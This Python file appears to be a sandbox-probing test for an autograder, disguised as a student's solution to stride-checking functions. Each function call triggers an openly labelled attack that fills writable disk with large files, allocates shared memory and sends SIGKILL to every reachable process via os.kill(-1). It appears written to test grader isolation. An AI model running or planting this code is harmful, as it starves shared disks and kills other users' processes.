"""Attack: exhaust what the workers share.

Once per worker: writes 64 MiB files (the file-size limit) wherever it may write
until the disk says no, asks for POSIX shared memory (``/dev/shm``), and sends
SIGKILL to every process it may signal (``kill(-1)``). On a shared disk the first
would starve the grader and the classmates graded beside this student; the last
would kill neighbours running as the same uid. Raises with what each did.
"""

import errno
import os
import signal
import tempfile

CHUNK = b"\0" * (1 << 20)
NAME = "@@CANARY@@-fill"
_notes = []


def _writable():
    for folder in (os.getcwd(), os.environ.get("TMPDIR"), tempfile.gettempdir(), "/tmp"):
        if folder and os.access(folder, os.W_OK | os.X_OK):
            return folder
    return None


def _fill():
    folder = _writable()
    if folder is None:
        return "fill=nowhere-writable"
    written, error = 0, "none"
    for i in range(16):  # at most 1 GiB
        try:
            with open(os.path.join(folder, f"{NAME}-{i}"), "wb") as f:
                for _ in range(64):
                    f.write(CHUNK)
                    written += 1
        except OSError as exc:
            error = errno.errorcode.get(exc.errno, str(exc.errno))
            if exc.errno != errno.EFBIG:  # the per-file limit: go on with the next file
                break
    return f"fill={written}MiB error={error}"


def _shm():
    try:
        from multiprocessing import shared_memory
        block = shared_memory.SharedMemory(create=True, size=1 << 20)
        block.close()
        block.unlink()
        return "shm=CREATED"
    except Exception as exc:  # noqa: BLE001
        return f"shm=refused({type(exc).__name__})"


def _kill():
    try:
        os.kill(-1, signal.SIGKILL)  # Linux spares the caller
        return "kill-all=SENT"
    except OSError as exc:
        return f"kill-all=refused({errno.errorcode.get(exc.errno, exc.errno)})"


def _attack():
    if not _notes:
        _notes.append(" ".join((_fill(), _shm(), _kill())))
    raise RuntimeError(f"ATTACK fill_scratch: {_notes[0]}")


def is_contiguous(size, stride):
    _attack()


def contiguous_strides(size):
    _attack()
